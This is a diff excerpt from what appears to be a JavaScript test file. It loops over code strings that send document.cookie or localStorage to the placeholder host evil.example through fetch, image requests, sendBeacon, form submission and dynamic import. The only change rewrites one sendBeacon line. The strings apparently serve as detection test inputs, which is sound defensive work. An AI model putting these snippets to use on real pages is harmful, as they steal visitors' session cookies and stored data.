@@ -9,7 +9,7 @@ for (const code of [
   `fetch('https://evil.example/', { method: 'POST', body: document['cookie'] })`,
   `const { cookie } = document; fetch('https://evil.example/?' + cookie)`,
   `const {cookie: c} = document; new Image().src = 'https://evil.example/?' + c`,
-  'const a = document.cookie, b = btoa(a); navigator.sendBeacon(`https://evil.example/${b}`)',
+  "const a = document.cookie, b = btoa(a); navigator.sendBeacon('https://evil.example/' + b)",
   `const f = document.createElement('form'); f.action = 'https://evil.example/'; const i = document.createElement('input'); i.value = JSON.stringify(localStorage); f.append(i); document.body.append(f); f.submit()`,
   `import('https://evil.example/' + btoa(document.cookie))`,
   `function all() { return document.cookie } fetch('https://evil.example/?' + all())`,
